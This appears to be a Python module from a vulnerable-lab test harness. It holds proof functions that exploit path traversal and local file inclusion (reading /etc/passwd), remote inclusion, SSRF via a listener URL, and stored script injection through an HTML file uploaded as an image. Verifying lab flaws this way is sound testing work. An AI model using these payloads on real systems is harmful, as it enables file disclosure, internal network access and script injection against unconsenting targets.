"""Exploits of files and addresses that a request names."""

import re

import aiohttp

from lab.client import Lab, listen


async def _traversal(lab: Lab) -> bool:
    return "root:x:0:0:" in (await lab.get("/download", file="../../../../../../etc/passwd")).text


async def _inclusion(lab: Lab) -> bool:
    return "root:x:0:0:" in (await lab.get("/show", page="/etc/passwd")).text


async def _remote_inclusion(lab: Lab) -> bool:
    async with listen("<b>included-31</b>") as listener:
        return "<b>included-31</b>" in (await lab.get("/widget", src=f"{listener.url}/x")).text


async def _ssrf(lab: Lab) -> bool:
    async with listen() as listener:
        await lab.send("POST", "/api/preview", json={"url": f"{listener.url}/x"})
        return await listener.called(0.3)


async def _upload(lab: Lab) -> bool:
    fields = aiohttp.FormData()
    fields.add_field("picture", b"<script>alert(1)</script>", filename="me.html", content_type="image/png")
    found = re.search(r'href="(/pictures/[^"]+)"', (await lab.send("POST", "/pictures", data=fields)).text)
    if found is None:
        return False
    reply = await lab.get(found[1])
    return reply.headers["Content-Type"].startswith("text/html") and "<script>alert(1)" in reply.text


PROOFS = {
    "traversal": _traversal,
    "file-inclusion": _inclusion,
    "file-inclusion-remote": _remote_inclusion,
    "ssrf": _ssrf,
    "upload": _upload,
}
